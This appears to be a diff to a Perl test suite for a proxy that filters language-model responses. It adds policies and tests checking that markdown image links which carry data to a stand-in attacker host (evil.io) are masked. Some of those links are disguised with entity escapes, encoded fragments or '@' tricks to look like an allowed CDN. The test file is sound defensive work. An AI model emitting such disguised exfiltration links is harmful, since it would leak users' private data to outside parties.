@@ -28,6 +28,16 @@ my $front = LLMG::Front->start(http => <<"END", locations => <<'END');
         allow    cidr   10.0.0.0/8 2001:db9::/32;
         allow    host   cdn.acme.io;
     }
+    llm_guard_policy values {
+        response pii.email  mask;
+        response pii.ip     mask;
+        allow    value  "$mail";
+        allow    cidr   10.0.0.0/8;
+    }
+    llm_guard_policy links {
+        response exfil.*    mask;
+        allow    host       cdn.acme.io;
+    }
     llm_guard_policy docs {
         inherit  office;
         allow    documentation;
@@ -36,6 +46,8 @@ END
     location / { llm_guard office; proxy_pass http://MODEL;
                  proxy_buffering off; proxy_set_header X-Rules
                  $llm_guard_rules; }
+    location /links/ { llm_guard links; proxy_pass http://MODEL/; }
+    location /values/ { llm_guard values; proxy_pass http://MODEL/; }
     location /docs/ { llm_guard docs; proxy_pass http://MODEL/; }
 END
 
@@ -110,6 +122,56 @@ for my $chunk (3, 1000) {
        "[EXFIL_MARKDOWN]", "one that only looks like it");
     is($say->("![a](https://evil.io/p?$picture#//cdn.acme.io)"),
        "[EXFIL_MARKDOWN]", "one behind another");
+}
+
+# what an address says when it is decoded is not what its readers follow
+
+my @addresses = (
+    [ "/links/", "a host that ends behind an escape",
+      "![a](https&#58;//cdn.acme.io%23\@evil.io/p?$picture)",
+      "[EXFIL_MARKDOWN]" ],
+    [ "/values/", "a value in full width", "to support\x{FF20}acme.io",
+      "to support\x{FF20}acme.io" ],
+    [ "/values/", "a network in other digits", "10.1.2.\x{663}",
+      "10.1.2.\x{663}" ],
+);
+
+for (@addresses) {
+    my ($to, $title, $text, $want) = @$_;
+
+    my $out = JSON::PP->new->utf8;
+    my $whole = $out->encode({ choices => [ { index => 0, message => {
+        role => "assistant", content => $text } } ] });
+    my $pieces = join "", map {
+        "data: " . $out->encode({ choices => [ { index => 0,
+                                  delta => { content => $_ } } ] }) . "\n\n"
+    } split //, $text;
+
+    for ([ $whole, "application/json" ],
+         [ $pieces . "data: [DONE]\n\n", "text/event-stream" ])
+    {
+        my ($body, $type) = @$_;
+
+        $body =~ s/([^A-Za-z0-9])/sprintf "%%%02X", ord $1/ge;
+
+        my $r = ask($to, json => chat("Hello", $type =~ /event/
+                                   ? (stream => JSON::PP::true) : ()),
+                    header => [ "x-standin-raw: $body",
+                                "x-standin-type: $type" ]);
+
+        is(said($r), $want, "$title: $type");
+    }
+}
+
+my $linked = JSON::PP->new->encode({
+    html => qq(<img src="https://cdn.acme.io/p?$picture">) });
+
+for my $chunk (1, 3, 1000) {
+    my $r = ask("/links/", json => chat("Hello", stream => JSON::PP::true),
+                header => [ "x-standin-tool: f $linked",
+                            "x-standin-chunk: $chunk" ]);
+
+    unlike($r->{body}, qr/EXFIL/, "a host in arguments, events of $chunk");
 }
 
 is(sent('a@example.com, 4242 4242 4242 4242, 192.0.2.7', "/docs/"),
